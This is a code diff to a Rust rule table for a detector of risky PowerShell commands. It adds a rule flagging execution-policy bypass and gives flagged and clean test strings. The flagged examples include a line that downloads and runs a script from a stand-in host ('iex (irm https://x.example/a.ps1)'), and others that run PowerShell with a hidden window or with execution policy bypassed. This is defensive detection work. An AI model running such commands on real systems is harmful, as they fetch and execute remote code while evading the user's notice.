@@ -1183,8 +1183,12 @@ pub const PROGRAMS: &[Program] = &[
             // A hidden window keeps what runs out of the user's sight
             // (ATT&CK T1564.003); `-WindowStyle` shortened to any prefix.
             Sub { words: &["-w|-wi|-win|-wind|-windo|-window|-windows|-windowst|-windowsty|-windowstyl|-windowstyle hidden|1"], harm: Evasion, level: Medium, reason: "runs PowerShell with its window hidden from the user" },
+            // Bypass or Unrestricted lets any script run, signed or not
+            // (ATT&CK T1059.001); `-ExecutionPolicy` shortened to any
+            // prefix from `-ex`, or `-ep`. Kitsun3Sec's sheets (session 48).
+            Sub { words: &["-ep|-ex|-exe|-exec|-execu|-execut|-executi|-executio|-execution|-executionp|-executionpo|-executionpol|-executionpoli|-executionpolic|-executionpolicy bypass|unrestricted"], harm: Evasion, level: Medium, reason: "runs PowerShell with its script execution policy turned off" },
         ],
-        value_opts: &["-version", "-v", "-f", "-file", "-executionpolicy", "-ep", "-ex", "-wd", "-workingdirectory", "-windowstyle", "-w", "-configurationname", "-outputformat", "-o", "-inputformat", "-if", "-settingsfile"],
+        value_opts: &["-version", "-v", "-f", "-file", "-executionpolicy", "-ep", "-ex", "-exe", "-exec", "-wd", "-workingdirectory", "-windowstyle", "-w", "-configurationname", "-outputformat", "-o", "-inputformat", "-if", "-settingsfile"],
         fold_case: true,
         flagged: &[
             "pwsh -c \"iex (irm https://x.example/a.ps1)\"",
@@ -1204,12 +1208,15 @@ pub const PROGRAMS: &[Program] = &[
             "powershell -WindowStyle:Hidden -c Get-Date",
             "pwsh -w:1 -File a.ps1",
             "powershell -Version:2",
+            "powershell -ExecutionPolicy Bypass -File c:\\openssh\\install-sshd.ps1",
+            "powershell -exec unrestricted -File a.ps1",
         ],
         clean: &[
             "pwsh -c 'Get-ChildItem'",
             "pwsh -NoProfile -File build.ps1",
             "pwsh -Command \"Invoke-Pester -Path tests\"",
             "powershell -WindowStyle Normal -File build.ps1",
+            "powershell -ExecutionPolicy RemoteSigned -File build.ps1",
         ],
         ..P
     },
